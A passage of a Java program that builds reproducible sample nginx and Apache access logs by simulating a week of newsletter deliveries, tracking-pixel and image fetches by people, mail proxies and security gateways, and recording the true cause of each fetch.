import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.Closeable;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.LocalTime;
import java.time.ZoneId;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.Comparator;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.Adler32;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;

/**
 * Makes the sample logs: plans a week of requests from a fixed seed, sends each of them to a real
 * nginx and a real Apache whose clocks are set to that week, and keeps what the two servers wrote.
 *
 * <p>Run it as {@code java sample-logs/make/MakeSampleLogs.java OUTPUT_DIR}. Two runs on the same
 * machine give the same bytes.
 */
public final class MakeSampleLogs {
  private static final ZoneId ZONE = ZoneId.of("Europe/Amsterdam");
  private static final LocalDate FIRST_DAY = LocalDate.of(2025, 3, 27);
  private static final int DAYS = 7;
  private static final Instant START = FIRST_DAY.atStartOfDay(ZONE).toInstant();
  private static final Instant END = FIRST_DAY.plusDays(DAYS).atStartOfDay(ZONE).toInstant();

  /** logrotate's daily timer does not fire at midnight sharp, so a file is not exactly a day. */
  private static final Duration ROTATION_AFTER_MIDNIGHT = Duration.ofMinutes(17);

  private static final long SEED = 20250327L;

  private MakeSampleLogs() {}

  public static void main(String[] args) throws Exception {
    if (args.length != 1) {
      System.err.println("usage: java sample-logs/make/MakeSampleLogs.java OUTPUT_DIR");
      System.exit(2);
    }
    try {
      make(Path.of(args[0]));
    } catch (CannotMake e) {
      System.err.println(e.getMessage());
      System.exit(1);
    }
  }

  private static void make(Path output) throws Exception {
    Programs programs = Programs.find();
    List<Recipient> recipients = People.recipients();
    List<Delivery> deliveries = Mailer.deliver(recipients);
    Plan plan = new Plan();
    new Readers(plan, recipients).follow(deliveries);
    new Strangers(plan, deliveries).visit();
    new OrdinaryTraffic(plan).visit();
    Map<Log, List<byte[]>> logs = play(programs, plan.inTimeOrder());
    Output.write(output, logs, deliveries);
  }

  /** Sends the planned requests in order and returns each log, cut where it was rotated. */
  private static Map<Log, List<byte[]>> play(Programs programs, List<Planned> requests)
      throws Exception {
    Path work = Files.createTempDirectory("sample-logs-");
    // Apache's worker gives up root and must still reach the documents.
    Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxr-xr-x"));
    try {
      Documents.write(work.resolve("documents"));
      try (ServerClock clock = new ServerClock(work.resolve("clock"), START);
          WebServer nginx = Nginx.start(programs, work, clock);
          WebServer apache = Apache.start(programs, work, clock)) {
        return new Player(work, clock, nginx, apache).play(requests);
      }
    } finally {
      deleteTree(work);
    }
  }

  private static void deleteTree(Path root) throws IOException {
    try (Stream<Path> paths = Files.walk(root)) {
      for (Path path : paths.sorted(Comparator.reverseOrder()).toList()) {
        Files.delete(path);
      }
    }
  }

  private static Instant local(int day, int hour, int minute) {
    return LocalDateTime.of(FIRST_DAY.plusDays(day), LocalTime.of(hour, minute))
        .atZone(ZONE)
        .toInstant();
  }

  /** A reason to stop that is the user's to mend, told in one sentence. */
  private static final class CannotMake extends Exception {
    private static final long serialVersionUID = 1L;

    CannotMake(String message) {
      super(message);
    }
  }

  // ---------------------------------------------------------------- chance

  /** Randomness with its own stream per purpose, so that one change does not move all the rest. */
  private static final class Dice {
    private final Random random;

    Dice(String purpose, long number) {
      this.random = new Random(mix(SEED ^ mix(purpose.hashCode()) ^ mix(number + 1)));
    }

    /** Neighbouring seeds give java.util.Random similar first numbers; mixing prevents that. */
    private static long mix(long seed) {
      long mixed = (seed ^ (seed >>> 33)) * 0xff51afd7ed558ccdL;
      mixed = (mixed ^ (mixed >>> 33)) * 0xc4ceb9fe1a85ec53L;
      return mixed ^ (mixed >>> 33);
    }

    boolean chance(double probability) {
      return random.nextDouble() < probability;
    }

    int between(int low, int high) {
      return low + random.nextInt(high - low + 1);
    }

    <T> T pick(List<T> values) {
      return values.get(random.nextInt(values.size()));
    }

    Duration lognormal(Duration median, double sigma) {
      double seconds = median.toSeconds() * StrictMath.exp(sigma * random.nextGaussian());
      return Duration.ofSeconds(Math.round(Math.min(seconds, 1e9)));
    }

    String token() {
      String digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
      StringBuilder token = new StringBuilder();
      for (int i = 0; i < 22; i++) {
        token.append(digits.charAt(random.nextInt(digits.length())));
      }
      return token.toString();
    }

    /** A moment of the week as people are awake: few at night, most by day and in the evening. */
    Instant wakingMoment() {
      int[] weights = {2, 1, 1, 1, 1, 2, 4, 7, 9, 10, 10, 9, 9, 9, 9, 9, 9, 8, 7, 8, 9, 8, 6, 4};
      int ticket = random.nextInt(Arrays.stream(weights).sum());
      int hour = 0;
      while (ticket >= weights[hour]) {
        ticket -= weights[hour++];
      }
      return local(between(0, DAYS - 1), hour, 0).plusSeconds(between(0, 3599));
    }

    Instant anyMoment() {
      return START.plusSeconds(
          (long) (random.nextDouble() * Duration.between(START, END).toSeconds()));
    }

    void shuffle(List<?> values) {
      Collections.shuffle(values, random);
    }
  }

  // ---------------------------------------------------------------- addresses

  /** Client addresses: published ranges for named machines, reserved ranges for everyone else. */
  private static final class Addresses {
    private Addresses() {}

    /** A person's line: only ranges that RFC 5737 and RFC 3849 reserve for documentation. */
    static String person(Dice dice) {
      if (dice.chance(0.3)) {
        return String.format(
            Locale.ROOT,
            "2001:db8:%x:%x::%x",
            dice.between(1, 0xfff),
            dice.between(0, 15),
            dice.between(2, 0xffff));
      }
      return dice.pick(List.of("192.0.2.", "198.51.100.", "203.0.113.")) + dice.between(1, 254);
    }

    /** A rented server of no one in particular: the benchmarking range of RFC 2544. */
    static String rentedServer(Dice dice) {
      return "198."
          + dice.between(18, 19)
          + "."
          + dice.between(0, 255)
          + "."
          + dice.between(1, 254);
    }

    static String appleRelay(Dice dice) {
      return "172.224.224." + dice.between(0, 31);
    }

    static String googleImageProxy(Dice dice) {
      return "66.249.84." + dice.between(1, 254);
    }

    static String googlePrefetch(Dice dice) {
      return dice.pick(List.of("66.249.87.", "66.249.89.", "74.125.149.")) + dice.between(1, 30);
    }

    static String googlebot(Dice dice) {
      return "66.249.66." + dice.between(1, 95);
    }

    static String bingbot(Dice dice) {
      return dice.pick(List.of("157.55.39.", "40.77.167.")) + dice.between(1, 254);
    }

    static String yahooProxy(Dice dice) {
      return "209.73.183." + dice.between(1, 254);
    }

    static String fastmail(Dice dice) {
      return "66.111.4." + dice.between(1, 254);
    }

    static String facebook(Dice dice) {
      return "69.171.251." + dice.between(1, 119);
    }

    static String exchangeOnlineProtection(Dice dice) {
      return dice.chance(0.6)
          ? "40.107." + dice.between(0, 255) + "." + dice.between(1, 254)
          : "104.47." + dice.between(0, 127) + "." + dice.between(1, 254);
    }

    static String barracuda(Dice dice) {
      return "209.222.82." + dice.between(1, 254);
    }
  }

  // ---------------------------------------------------------------- mail

  /** One of the three ways a campaign names the same picture. */
  private record Variant(String name, String style, String image) {

    /** As in the URL; no name holds a blank, the one character this would encode for a form. */
    String encodedImage() {
      return URLEncoder.encode(image, StandardCharsets.UTF_8);
    }
  }

  private record Campaign(
      String id,
      Site site,
      String subject,
      String alt,
      String document,
      List<Variant> variants,
      Instant start,
      int deliveries,
      Duration sending) {}

  private static final Campaign SPRING_REPORT =
      new Campaign(
          "spring-report",
          Site.MAIL,
          "Spring report: \"Climate report 2025\", now online",
          "Chart: how climate change alters the flow of Dutch rivers",
          "climate-report-2025.pdf",
          List.of(
              new Variant("title", "title_like", "climate-report.png"),
              new Variant(
                  "descriptive",
                  "descriptive",
                  "chart-of-climate-change-impact-on-dutch-rivers.png"),
              new Variant("opaque", "opaque_id", "a81f3c9e2b7d4405.png")),
          local(0, 9, 0),
          2400,
          Duration.ofMinutes(40));

  private static final Campaign RIVER_NEWS =
      new Campaign(
          "river-news",
          Site.NEWS,
          "River News, March: the quiet flood",
          "Water level of the Meuse at Liège in February",
          "river-news-2025-03.pdf",
          List.of(
              new Variant("title", "title_like", "the-quiet-flood.png"),
              new Variant(
                  "descriptive",
                  "descriptive",
                  "water-level-of-the-meuse-at-liège-in-february.png"),
              new Variant("opaque", "opaque_id", "f3d09b6a17c2e85e.png")),
          local(2, 8, 0),
          1800,
          Duration.ofMinutes(30));

  /** What a recipient reads mail with, with its share of the list in per mille. */
  private enum Client {
    APPLE_MAIL_PRIVACY(450, 0.10),
    GMAIL(250, 0),
    OUTLOOK_CLASSIC(80, 0.55),
    YAHOO(50, 0),
    APPLE_MAIL_MACOS(40, 0.10),
    IPHONE_MAIL(30, 0.05),
    THUNDERBIRD(30, 0.10),
    NEW_OUTLOOK(30, 0.50),
    OUTLOOK_MOBILE(15, 0.45),
    WEBMAIL(15, 0.10),
    FASTMAIL(10, 0);

    private final int perMille;
    private final double behindGateway;

    Client(int perMille, double behindGateway) {
      this.perMille = perMille;
      this.behindGateway = behindGateway;
    }

    String label() {
      return name().toLowerCase(Locale.ROOT);
    }

    boolean blocksImagesAtFirst() {
      return this == OUTLOOK_CLASSIC || this == THUNDERBIRD;
    }
  }

  private enum Gateway {
    EXCHANGE_ONLINE_PROTECTION,
    BARRACUDA
  }

  private record Recipient(
      String email,
      Client client,
      String mailAgent,
      String browser,
      String home,
      String mobile,
      boolean keen,
      Gateway gateway,
      boolean gatewaySendsHead) {

    boolean hasGateway() {
      return gateway != null;
    }
  }

  /** What a fetch was in truth; the truth file counts them by this. */
  private enum Fetch {
    PERSON_IMAGE,
    PERSON_DOWNLOAD,
    PERSON_DOWNLOAD_UNLOGGED_AGENT,
    APPLE_AT_OPEN,
    PREFETCH,
    MACHINE
  }

  private static final class Delivery {
    final String token;
    final Recipient recipient;
    final Campaign campaign;
    final Variant variant;
    final Instant sent;
    final Instant accepted;
    private final Map<Fetch, Integer> fetches = new EnumMap<>(Fetch.class);
    private boolean read;

    Delivery(Campaign campaign, Recipient recipient, Variant variant, Instant sent, Dice dice) {
      this.token = dice.token();
      this.recipient = recipient;
      this.campaign = campaign;
      this.variant = variant;
      this.sent = sent;
      this.accepted = dice.chance(0.015) ? null : sent.plusSeconds(acceptanceDelay(dice));
    }

    private static int acceptanceDelay(Dice dice) {
      return dice.chance(0.03) ? dice.between(300, 900) : dice.between(1, 6);
    }

    boolean bounced() {
      return accepted == null;
    }

    String pixel() {
      return "/o/" + campaign.id() + "/" + token + "/px.gif";
    }

    String image() {
      return "/o/" + campaign.id() + "/" + token + "/" + variant.encodedImage();
    }

    String download() {
      return "/d/" + campaign.id() + "/" + token + "/" + campaign.document();
    }

    void count(Fetch fetch) {
      fetches.merge(fetch, 1, Integer::sum);
    }

    int fetched(Fetch fetch) {
      return fetches.getOrDefault(fetch, 0);
    }

    /** The first that holds, from the strongest sign of a person to none. */
    String truth() {
      if (bounced()) {
        return "bounced";
      } else if (fetched(Fetch.PERSON_IMAGE) > 0) {
        return "image_loaded_by_person";
      } else if (fetched(Fetch.PERSON_DOWNLOAD) > 0) {
        return "download_only";
      } else if (fetched(Fetch.PERSON_DOWNLOAD_UNLOGGED_AGENT) > 0) {
        return "unlogged_agent_only";
      } else if (fetched(Fetch.APPLE_AT_OPEN) > 0) {
        return "apple_at_open";
      } else if (fetched(Fetch.PREFETCH) > 0) {
        return "prefetched_only";
      }
      return fetched(Fetch.MACHINE) > 0 ? "machine_only" : "nothing_fetched";
    }
  }

  /** The mailing list. */
  private static final class People {
    private static final int LIST_SIZE = 3000;
    private static final List<String> FIRST =
        List.of(
            "anna", "bram", "carla", "daan", "els", "femke", "gijs", "hanna", "ids", "jan", "karin",
            "lotte", "maria", "noor", "otto", "petra", "ruben", "sanne", "tess", "wim", "yara");
    private static final List<String> LAST =
        List.of(
            "bakker",
            "bos",
            "dejong",
            "devries",
            "dijkstra",
            "hendriks",
            "jansen",
            "kok",
            "meijer",
            "mulder",
            "peters",
            "smit",
            "vandam",
            "vandenberg",
            "visser",
            "vos",
            "willems");

    private People() {}

    static List<Recipient> recipients() {
      Set<String> taken = new HashSet<>();
      List<Recipient> recipients = new ArrayList<>();
      for (int i = 0; i < LIST_SIZE; i++) {
        Dice dice = new Dice("recipient", i);
        recipients.add(recipient(dice, email(dice, taken)));
      }
      return recipients;
    }

    private static String email(Dice dice, Set<String> taken) {
      String name = dice.pick(FIRST) + "." + dice.pick(LAST);
      String host = dice.pick(List.of("example.com", "example.net", "example.org"));
      String email = name + "@" + host;
      for (int number = 2; !taken.add(email); number++) {
        email = name + number + "@" + host;
      }
      return email;
    }

    private static Recipient recipient(Dice dice, String email) {
      Client client = client(dice);
      Gateway gateway = null;
      if (dice.chance(client.behindGateway)) {
        gateway = dice.chance(0.6) ? Gateway.EXCHANGE_ONLINE_PROTECTION : Gateway.BARRACUDA;
      }
      return new Recipient(
          email,
          client,
          Agents.mail(client, dice),
          dice.pick(Agents.BROWSERS),
          Addresses.person(dice),
          Addresses.person(dice),
          dice.chance(0.5),
          gateway,
          dice.chance(0.15));
    }

    private static Client client(Dice dice) {
      int ticket = dice.between(0, 999);
      for (Client client : Client.values()) {
        ticket -= client.perMille;
        if (ticket < 0) {
          return client;
        }
      }
      throw new IllegalStateException("the shares of the clients do not add up to 1000");
    }
  }

  private static final class Agents {
    static final String APPLE_RELAY = "Mozilla/5.0";
    static final String GOOGLE_IMAGE_PROXY =
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)";
    static final String GMAIL_PREFETCH =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0";
    static final String YAHOO_PROXY =
        "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html";
    static final String BARE_WEBKIT =
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)";
    static final String GOOGLEBOT =
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    static final String BINGBOT =
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    static final String AHREFSBOT =
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)";
    static final String SLACKBOT = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)";
    static final String FACEBOOK =
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)";
    static final String WHATSAPP = "WhatsApp/2.23.20.0 A";
    static final String MONITOR =
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)";

    static final List<String> BROWSERS =
        List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/134.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/134.0.0.0 Safari/537.36 Edg/134.0.0.0",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like"
                + " Gecko) Version/18.3 Safari/605.1.15",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML,"
                + " like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/134.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:136.0) Gecko/20100101 Firefox/136.0",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");

    private static final List<String> CLASSIC_OUTLOOKS =
        List.of(
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18526; Pro)",
            "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C;"
                + " .NET4.0E; Microsoft Outlook 16.0.17928; ms-office; MSOffice 16)");

    private Agents() {}

    /** The agent that the client, or the proxy that fetches for it, sends when a person looks. */
    static String mail(Client client, Dice dice) {
      return switch (client) {
        case APPLE_MAIL_PRIVACY -> APPLE_RELAY;
        case GMAIL -> GOOGLE_IMAGE_PROXY;
        case YAHOO -> YAHOO_PROXY;
        case FASTMAIL -> "FastmailUA/1.0";
        case OUTLOOK_CLASSIC -> dice.pick(CLASSIC_OUTLOOKS);
        case APPLE_MAIL_MACOS, NEW_OUTLOOK -> BARE_WEBKIT;
        case IPHONE_MAIL ->
            "Mozilla/5.0 (iPhone; CPU iPhone OS "
                + dice.pick(List.of("17_5", "18_3_2"))
                + " like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148";
        case THUNDERBIRD ->
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101"
                + " Thunderbird/128.8.0";
        case OUTLOOK_MOBILE ->
            dice.pick(
                List.of("Outlook-iOS/711.2620504.prod.iphone (3.33.0)", "Outlook-iOS-Android/1.0"));
        case WEBMAIL -> dice.pick(BROWSERS);
      };
    }
  }

  /** The mailer: who gets what, when it left and when it was accepted. */
  private static final class Mailer {
    private Mailer() {}

    static List<Delivery> deliver(List<Recipient> list) {
      List<Delivery> deliveries = new ArrayList<>();
      for (Campaign campaign : List.of(SPRING_REPORT, RIVER_NEWS)) {
        List<Recipient> shuffled = new ArrayList<>(list);
        new Dice("order " + campaign.id(), 0).shuffle(shuffled);
        for (int i = 0; i < campaign.deliveries(); i++) {
          Dice dice = new Dice("delivery " + campaign.id(), i);
          long offset = campaign.sending().toSeconds() * i / campaign.deliveries();
          Variant variant = dice.pick(campaign.variants());
          Instant sent = campaign.start().plusSeconds(offset);
          deliveries.add(new Delivery(campaign, shuffled.get(i), variant, sent, dice));
        }
      }
      return deliveries;
    }
  }

  // ---------------------------------------------------------------- requests

  private enum Site {
    WWW("www.example.org", Log.OTHER_VHOSTS),
    NEWS("news.example.org", Log.OTHER_VHOSTS),
    FILES("files.example.org", Log.FILES),
    OLD("old.example.org", Log.OLD),
    MAIL("mail.example.org", Log.NGINX);

    private final String host;
    private final Log log;

    Site(String host, Log log) {
      this.host = host;
      this.log = log;
    }

    String documents() {
      return name().toLowerCase(Locale.ROOT);
    }
  }

  private enum Log {
    NGINX("nginx/access.log"),
    OTHER_VHOSTS("apache/other_vhosts_access.log"),
    FILES("apache/files-access.log"),
    OLD("apache/old-access.log");

    private final String path;

    Log(String path) {
      this.path = path;
    }
  }

  /** A request as sent; {@code raw} replaces all the rest for bytes that are no HTTP. */
  private record Request(
      String method,
      String target,
      String address,
      String agent,
      String referer,
      String header,
      String raw) {

    static Request get(String target, String address, String agent) {
      return new Request("GET", target, address, agent, null, null, null);
    }

    static Request head(String target, String address, String agent) {
      return new Request("HEAD", target, address, agent, null, null, null);
    }

    static Request raw(String bytes) {
      return new Request(null, null, null, null, null, null, bytes);
    }

    Request by(String client) {
      return new Request(method, target, client, agent, referer, header, raw);
    }

    Request from(String page) {
      return new Request(method, target, address, agent, page, header, raw);
    }

    Request with(String line) {
      return new Request(method, target, address, agent, referer, line, raw);
    }

    Request ifModifiedSince() {
      return with("If-Modified-Since: " + Documents.LAST_MODIFIED);
    }

    byte[] bytes(String host) {
      StringBuilder text = new StringBuilder();
      text.append(method).append(' ').append(target).append(" HTTP/1.1\r\n");
      text.append("Host: ").append(host).append("\r\n");
      text.append("X-Forwarded-For: ").append(address).append("\r\n");
      if (agent != null) {
        text.append("User-Agent: ").append(agent).append("\r\n");
      }
      if (referer != null) {
        text.append("Referer: ").append(referer).append("\r\n");
      }
      if (header != null) {
        text.append(header).append("\r\n");
      }
      return text.append("\r\n").toString().getBytes(StandardCharsets.UTF_8);
    }
  }

  private record Planned(Instant at, Site site, Request request) {}

  /** All requests of the week. What falls outside the week never reached a log. */
  private static final class Plan {
    private final List<Planned> requests = new ArrayList<>();

    boolean add(Instant at, Site site, Request request) {
      Instant second = at.truncatedTo(ChronoUnit.SECONDS);
      if (second.isBefore(START) || !second.isBefore(END)) {
        return false;
      }
      return requests.add(new Planned(second, site, request));
    }

    /** Adds the fetch of a tracked object and, if it reached a log, counts it for the truth. */
    void add(Instant at, Site site, Request request, Delivery delivery, Fetch fetch) {
      if (add(at, site, request)) {
        delivery.count(fetch);
      }
    }

    List<Planned> inTimeOrder() {
      return requests.stream().sorted(Comparator.comparing(Planned::at)).toList();
    }
  }

  // ---------------------------------------------------------------- readers

  /** Recipients, the machines in front of them, and those they pass a mail on to. */
  private static final class Readers {
    private static final Duration SOONEST_OPEN = Duration.ofSeconds(125);
    private static final Map<String, Double> ACCEPTS_IMAGES =
        Map.of("opaque_id", 0.15, "title_like", 0.20, "descriptive", 0.45);

    private final Plan plan;
    private final List<Recipient> colleagues;

    Readers(Plan plan, List<Recipient> recipients) {
      this.plan = plan;
      Set<Client> direct = Set.of(Client.GMAIL, Client.APPLE_MAIL_MACOS, Client.IPHONE_MAIL);
      this.colleagues = recipients.stream().filter(r -> direct.contains(r.client())).toList();
    }

    void follow(List<Delivery> deliveries) {
      for (int i = 0; i < deliveries.size(); i++) {
        if (!deliveries.get(i).bounced()) {
          follow(deliveries.get(i), new Dice("reading", i));
        }
      }
    }

    private void follow(Delivery delivery, Dice dice) {
      if (delivery.recipient.hasGateway() && dice.chance(0.92)) {
        scan(delivery, dice);
      }
      if (delivery.recipient.client() == Client.GMAIL && dice.chance(0.03)) {
        gmailPrefetch(delivery, dice);
      }
      Instant open = openTime(delivery, dice);
      delivery.read = open.isBefore(END);
      if (delivery.recipient.client() == Client.APPLE_MAIL_PRIVACY) {
        appleRelay(delivery, open, dice);
      }
      if (delivery.read) {
        boolean loaded = look(delivery, delivery.recipient, open, dice);
        afterwards(delivery, open, loaded, dice);
      }
    }

    /** When the mail is first read; END when it is not read within the week. */
    private Instant openTime(Delivery delivery, Dice dice) {
      boolean reads = dice.chance(delivery.recipient.keen() ? 0.74 : 0.24);
      Duration delay = dice.lognormal(Duration.ofHours(3), 1.6);
      Instant open =
          delivery.accepted.plus(delay.compareTo(SOONEST_OPEN) < 0 ? SOONEST_OPEN : delay);
      ZonedDateTime clock = open.atZone(ZONE);
      if (clock.getHour() < 6 && dice.chance(0.85)) {
        open = clock.toLocalDate().atTime(6, 30).atZone(ZONE).toInstant();
        open = open.plusSeconds(dice.between(0, 10_000));
      }
      return reads && open.isBefore(END) ? open : END;
    }

    private void scan(Delivery delivery, Dice dice) {
      boolean microsoft = delivery.recipient.gateway() == Gateway.EXCHANGE_ONLINE_PROTECTION;
      String address =
          microsoft ? Addresses.exchangeOnlineProtection(dice) : Addresses.barracuda(dice);
      String agent =
          !microsoft && dice.chance(0.3)
              ? "Barracuda Sentinel (EE)"
              : dice.pick(Agents.BROWSERS.subList(0, 3));
      Site site = delivery.campaign.site();
      Instant at = delivery.accepted.plusSeconds(dice.between(9, 55));
      if (delivery.recipient.gatewaySendsHead()) {
        Request head = Request.head(delivery.download(), address, agent);
        plan.add(at, Site.FILES, head, delivery, Fetch.MACHINE);
      }
      machine(delivery, at, site, Request.get(delivery.pixel(), address, agent));
      machine(delivery, at.plusSeconds(1), site, Request.get(delivery.image(), address, agent));
      Instant last = at.plusSeconds(dice.between(1, 5));
      machine(delivery, last, Site.FILES, Request.get(delivery.download(), address, agent));
    }

    private void machine(Delivery delivery, Instant at, Site site, Request request) {
      plan.add(at, site, request, delivery, Fetch.MACHINE);
    }

    private void gmailPrefetch(Delivery delivery, Dice dice) {
      Instant at = delivery.accepted.plusSeconds(dice.between(2, 20));
      String address = Addresses.googlePrefetch(dice);
      for (String target : List.of(delivery.pixel(), delivery.image())) {
        Request request = Request.get(target, address, Agents.GMAIL_PREFETCH);
        request = request.from("http://mail.google.com/");
        plan.add(at, delivery.campaign.site(), request, delivery, Fetch.PREFETCH);
      }
    }

    /** Apple fetches once: ahead of the reader when the device had power, else when it opens. */
    private void appleRelay(Delivery delivery, Instant open, Dice dice) {
      Duration delay = dice.lognormal(Duration.ofMinutes(40), 1.4);
      Instant ahead = delivery.accepted.plusSeconds(180).plus(delay);
      boolean hadPower = dice.chance(0.82);
      boolean atOpen = delivery.read && (!hadPower || open.isBefore(ahead));
      if (!hadPower && !delivery.read) {
        return;
      }
      Instant at = atOpen ? open : ahead;
      Fetch fetch = atOpen ? Fetch.APPLE_AT_OPEN : Fetch.PREFETCH;
      Site site = delivery.campaign.site();
      for (String target : List.of(delivery.pixel(), delivery.image())) {
        Request request = Request.get(target, Addresses.appleRelay(dice), Agents.APPLE_RELAY);
        plan.add(at, site, request, delivery, fetch);
        at = at.plusSeconds(dice.between(0, 2));
      }
    }

    /** A person looks at the mail; true when images were loaded for that person. */
    private boolean look(Delivery delivery, Recipient reader, Instant open, Dice dice) {
      Client client = reader.client();
      if (client == Client.APPLE_MAIL_PRIVACY) {
        return false;
      }
      if (client.blocksImagesAtFirst()
          && !dice.chance(ACCEPTS_IMAGES.get(delivery.variant.style()))) {
        return false;
      }
      switch (client) {
        case GMAIL -> proxied(delivery, reader, open, Addresses.googleImageProxy(dice), 0.08, dice);
        case FASTMAIL -> proxied(delivery, reader, open, Addresses.fastmail(dice), 0.3, dice);
        case YAHOO -> yahoo(delivery, reader, open, dice);
        default -> direct(delivery, reader, open, dice);
      }
      return true;
    }

    private void proxied(
        Delivery delivery,
        Recipient reader,
        Instant open,
        String address,
        double again,
        Dice dice) {
      Instant at = open;
      do {
        image(delivery, at, Request.get(delivery.pixel(), address, reader.mailAgent()));
        image(delivery, at, Request.get(delivery.image(), address, reader.mailAgent()));
        at = at.plus(dice.lognormal(Duration.ofHours(20), 0.8));
      } while (dice.chance(again));
    }

    private void yahoo(Delivery delivery, Recipient reader, Instant open, Dice dice) {
      image(
          delivery,
          open,
          Request.get(delivery.image(), Addresses.yahooProxy(dice), reader.mailAgent()));
      Instant at = open;
      for (int tries = dice.between(1, 4); tries > 0; tries--) {
        String address = Addresses.yahooProxy(dice);
        image(delivery, at, Request.get(delivery.pixel(), address, reader.mailAgent()));
        at = at.plusSeconds(dice.between(0, 3));
      }
    }

    private void direct(Delivery delivery, Recipient reader, Instant open, Dice dice) {
      String referer = reader.client() == Client.WEBMAIL ? "https://webmail.example.net/" : null;
      boolean stripsPixels = dice.chance(0.03);
      boolean remembers = dice.chance(0.6);
      boolean again = false;
      Instant at = open;
      do {
        String address = dice.chance(0.7) ? reader.home() : reader.mobile();
        Request image = Request.get(delivery.image(), address, reader.mailAgent()).from(referer);
        if (!stripsPixels) {
          image(
              delivery,
              at,
              Request.get(delivery.pixel(), address, reader.mailAgent()).from(referer));
        }
        image(
            delivery,
            at.plusSeconds(dice.between(0, 1)),
            again && remembers ? image.ifModifiedSince() : image);
        again = dice.chance(0.3);
        at = at.plus(dice.lognormal(Duration.ofHours(20), 1.0));
      } while (again);
    }

    private void image(Delivery delivery, Instant at, Request request) {
      plan.add(at, delivery.campaign.site(), request, delivery, Fetch.PERSON_IMAGE);
    }

    private void afterwards(Delivery delivery, Instant open, boolean loaded, Dice dice) {
      boolean blocked = delivery.recipient.client().blocksImagesAtFirst() && !loaded;
      if (dice.chance(blocked ? 0.12 : 0.06)) {
        download(delivery, open.plusSeconds(dice.between(20, 400)), dice);
      }
      if (dice.chance(0.015)) {
        shareLink(delivery, open.plusSeconds(dice.between(60, 7200)), dice);
      }
      if (dice.chance(0.012)) {
        Instant forwarded = open.plus(dice.lognormal(Duration.ofHours(5), 1.0));
        look(delivery, dice.pick(colleagues), forwarded, dice);
      }
    }

    private void download(Delivery delivery, Instant at, Dice dice) {
      Recipient reader = delivery.recipient;
      String address = dice.chance(0.7) ? reader.home() : reader.mobile();
      Request request = Request.get(delivery.download(), address, reader.browser());
      if (dice.chance(0.15)) {
        plan.add(at, Site.OLD, request, delivery, Fetch.PERSON_DOWNLOAD_UNLOGGED_AGENT);
        return;
      }
      plan.add(at, Site.FILES, request, delivery, Fetch.PERSON_DOWNLOAD);
      if (dice.chance(0.25)) {
        Request rest = request.with("Range: bytes=65536-");
        plan.add(at.plusSeconds(1), Site.FILES, rest, delivery, Fetch.PERSON_DOWNLOAD);
      }
    }

    private void shareLink(Delivery delivery, Instant at, Dice dice) {
      String target = delivery.download();
      Request preview =
          switch (dice.between(0, 2)) {
            case 0 -> Request.get(target, Addresses.rentedServer(dice), Agents.SLACKBOT);
            case 1 -> Request.get(target, Addresses.facebook(dice), Agents.FACEBOOK);
            default -> Request.get(target, delivery.recipient.mobile(), Agents.WHATSAPP);
          };
      machine(delivery, at, Site.FILES, preview);
    }
  }

